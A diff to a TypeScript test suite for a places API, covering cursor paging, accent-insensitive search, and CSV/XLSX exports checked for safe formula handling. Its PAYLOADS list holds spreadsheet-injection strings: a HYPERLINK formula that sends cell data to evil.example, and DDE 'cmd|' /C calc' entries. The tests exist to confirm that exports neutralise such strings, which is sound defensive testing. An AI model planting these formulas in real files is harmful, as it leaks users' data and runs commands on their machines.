@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Place } from '@app/google-maps';
@@ -97,7 +98,12 @@ describe('Places', () => {
   it('lists only your own places, paged, with meta', async () => {
     const page1 = await t.http.get('/api/places?limit=10', ana.token);
     expect(page1.status).toBe(200);
-    expect(page1.body.meta).toEqual({ page: 1, limit: 10, total: 33 });
+    expect(page1.body.meta).toEqual({
+      page: 1,
+      limit: 10,
+      total: 33,
+      next_cursor: expect.any(String),
+    });
     expect(page1.body.data).toHaveLength(10);
     const page4 = await t.http.get('/api/places?limit=10&page=4', ana.token);
     expect(page4.body.data).toHaveLength(3);
@@ -273,6 +279,215 @@ describe('Deleting a place while Redis is unreachable', () => {
     } finally {
       await proxy.stop();
       await t.close();
+    }
+  });
+});
+
+describe('Places: cursor paging, accent-insensitive search, spreadsheet-safe exports', () => {
+  let t: TestApp;
+  let places: PlacesService;
+  beforeAll(async () => {
+    t = await createTestApp();
+    places = t.app.get(PlacesService);
+  });
+  afterAll(() => t?.close());
+
+  const owner = (user: TestUser, kecamatan: string | null = null) => ({
+    userId: user.id,
+    jobId: null,
+    keyword: 'kopi',
+    location: 'Jakarta',
+    kecamatan,
+  });
+
+  async function download(path: string, token: string): Promise<Buffer> {
+    const res = await fetch(`${t.baseUrl}${path}`, {
+      headers: { authorization: `Bearer ${token}` },
+    });
+    expect(res.status).toBe(200);
+    return Buffer.from(await res.arrayBuffer());
+  }
+
+  for (const sort of ['-created_at', 'created_at', 'name', '-name', '-rating', 'reviews_count']) {
+    it(`pages by cursor (sort=${sort}) without skipping or repeating a row while rows are inserted between pages`, async () => {
+      const user = await createUser(t);
+      // Ratings and review counts repeat and are sometimes missing: ties and NULLs cross page ends.
+      await places.store(
+        owner(user),
+        Array.from({ length: 60 }, (_, i) =>
+          place(`Toko ${String(i).padStart(2, '0')}`, {
+            rating: i % 4 === 0 ? null : 1 + (i % 3),
+            reviewsCount: i % 5 === 0 ? null : i % 6,
+          }),
+        ),
+      );
+      const before = new Set(
+        (await t.http.get(`/api/places?limit=100`, user.token)).body.data.map(
+          (p: { id: string }) => p.id,
+        ),
+      );
+      expect(before.size).toBe(60);
+
+      const seen: string[] = [];
+      let cursor: string | null = null;
+      let pages = 0;
+      do {
+        const query: string = `/api/places?limit=7&sort=${sort}${cursor ? `&cursor=${cursor}` : ''}`;
+        // Each page is read while another batch of the user's places is being stored.
+        const [res] = await Promise.all([
+          t.http.get(query, user.token),
+          places.store(
+            owner(user),
+            Array.from({ length: 3 }, (_, i) =>
+              place(`${pages % 2 ? 'Aaa' : 'Zzz'} new ${pages}-${i}`, {
+                rating: i === 0 ? null : 2,
+                reviewsCount: i,
+              }),
+            ),
+          ),
+        ]);
+        expect(res.status).toBe(200);
+        seen.push(...res.body.data.map((p: { id: string }) => p.id));
+        cursor = res.body.meta.next_cursor;
+        pages++;
+      } while (cursor && pages < 100);
+
+      expect(cursor).toBeNull();
+      expect(new Set(seen).size).toBe(seen.length); // nothing repeated
+      for (const id of before) expect(seen).toContain(id); // nothing skipped
+    });
+  }
+
+  it('keeps meta.total exact as places are stored and deleted, and rejects foreign or broken cursors with 422', async () => {
+    const user = await createUser(t);
+    await places.store(owner(user), [place('Satu'), place('Dua')]);
+    expect((await t.http.get('/api/places', user.token)).body.meta.total).toBe(2);
+    await places.store(owner(user), [place('Tiga')]);
+    const listed = await t.http.get('/api/places?limit=1', user.token);
+    expect(listed.body.meta.total).toBe(3);
+    expect((await t.http.delete(`/api/places/${listed.body.data[0].id}`, user.token)).status).toBe(
+      204,
+    );
+    expect((await t.http.get('/api/places', user.token)).body.meta.total).toBe(2);
+
+    const cursor = listed.body.meta.next_cursor as string;
+    for (const bad of [`cursor=${cursor}&sort=name`, 'cursor=bm90LWEtY3Vyc29y', 'cursor=%25%25']) {
+      const res = await t.http.get(`/api/places?${bad}`, user.token);
+      expect(res.status, bad).toBe(422);
+      expect(JSON.stringify(res.body.message)).toMatch(/cursor/);
+    }
+  });
+
+  it('finds names by substring whatever their case and accents', async () => {
+    const user = await createUser(t);
+    await places.store(owner(user), [
+      place('Kopi Kenangan'),
+      place('Warung KOPI'),
+      place('Kópi Susu Bu Tini'),
+      place('Café Kopí Aceh'),
+      place('Teh Manis'),
+    ]);
+    const names = async (q: string) =>
+      (await t.http.get(`/api/places?sort=name&q=${encodeURIComponent(q)}`, user.token)).body.data
+        .map((p: { name: string }) => p.name)
+        .sort();
+    const kopi = ['Café Kopí Aceh', 'Kopi Kenangan', 'Kópi Susu Bu Tini', 'Warung KOPI'];
+    expect(await names('kopi')).toEqual(kopi);
+    expect(await names('KÓPI')).toEqual(kopi);
+    expect(await names('cafe kopi')).toEqual(['Café Kopí Aceh']);
+    expect(await names('susu bu')).toEqual(['Kópi Susu Bu Tini']);
+    expect(await names('manis')).toEqual(['Teh Manis']);
+  });
+
+  const PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '+1+HYPERLINK("http://evil.example","x")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it('neutralises formulas in CSV with a leading quote, phone numbers included, and adds a BOM on request', async () => {
+    const user = await createUser(t);
+    await places.store(
+      owner(user),
+      PAYLOADS.map((payload, i) =>
+        place(`${payload} ${i}`, { address: payload, phone: i === 1 ? payload : '+62 21 555' }),
+      ),
+    );
+    const plain = await download('/api/places/export?format=csv&sort=name', user.token);
+    expect(plain[0]).toBe('i'.charCodeAt(0)); // no BOM unless asked
+    const withBom = await download('/api/places/export?format=csv&bom=true', user.token);
+    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+
+    const rows = parseCsv(plain.toString('utf8')).slice(1);
+    expect(rows).toHaveLength(PAYLOADS.length);
+    for (const row of rows) {
+      const [name, address, phone] = [row[1], row[2], row[3]];
+      for (const cell of [name, address, phone]) expect(cell, cell).toMatch(/^'[=+\-@\t\r]/);
+      expect(PAYLOADS).toContain(address.slice(1));
+    }
+    expect(rows.map((r) => r[3])).toContain("'+62 21 555");
+    expect(rows.map((r) => r[3])).toContain(`'${PAYLOADS[1]}`);
+    // Numbers stay numbers (a negative latitude is not text).
+    expect(rows[0][8]).toBe('-6.2');
+  });
+
+  it('exports a real XLSX workbook: typed cells, frozen filtered header, neutralised formulas, phones as text', async () => {
+    const user = await createUser(t);
+    await places.store(owner(user, 'Tebet'), [
+      ...PAYLOADS.map((payload, i) => place(`${payload} ${i}`, { address: payload })),
+      place('Kópi Kenangan', { rating: 4.5, reviewsCount: 120, phone: '+62 21 7654321' }),
+    ]);
+    const res = await fetch(`${t.baseUrl}/api/places/export?format=xlsx&sort=name`, {
+      headers: { authorization: `Bearer ${user.token}` },
+    });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    );
+    expect(res.headers.get('content-disposition')).toMatch(/\.xlsx"$/);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0];
+    expect(sheet.rowCount).toBe(PAYLOADS.length + 2);
+    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
+      'id',
+      'name',
+      'address',
+      'phone',
+      'website',
+      'rating',
+      'reviews_count',
+      'category',
+      'latitude',
+      'longitude',
+      'google_place_id',
+      'kecamatan',
+      'location',
+      'keyword',
+      'created_at',
+    ]);
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+    expect(sheet.autoFilter).toMatch(/^A1:O8$/);
+
+    const rows = Array.from({ length: PAYLOADS.length + 1 }, (_, i) => sheet.getRow(i + 2));
+    const kopi = rows.find((row) => row.getCell(2).value === 'Kópi Kenangan')!;
+    expect(kopi.getCell(6).type).toBe(ExcelJS.ValueType.Number);
+    expect(kopi.getCell(6).value).toBe(4.5);
+    expect(kopi.getCell(7).value).toBe(120);
+    expect(kopi.getCell(9).value).toBe(-6.2);
+    expect(kopi.getCell(4).type).toBe(ExcelJS.ValueType.String);
+    expect(kopi.getCell(4).value).toBe('+62 21 7654321'); // readable: a text cell, no quote
+    expect(kopi.getCell(15).type).toBe(ExcelJS.ValueType.Date);
+    for (const row of rows) {
+      for (let column = 1; column <= 15; column++)
+        expect(row.getCell(column).type).not.toBe(ExcelJS.ValueType.Formula);
+      if (row === kopi) continue;
+      // (XML reads a CR back as LF.)
+      expect(row.getCell(2).value).toMatch(/^'[=+\-@\t\n]/);
+      expect(PAYLOADS).toContain((row.getCell(3).value as string).slice(1).replace(/^\n/, '\r'));
     }
   });
 });
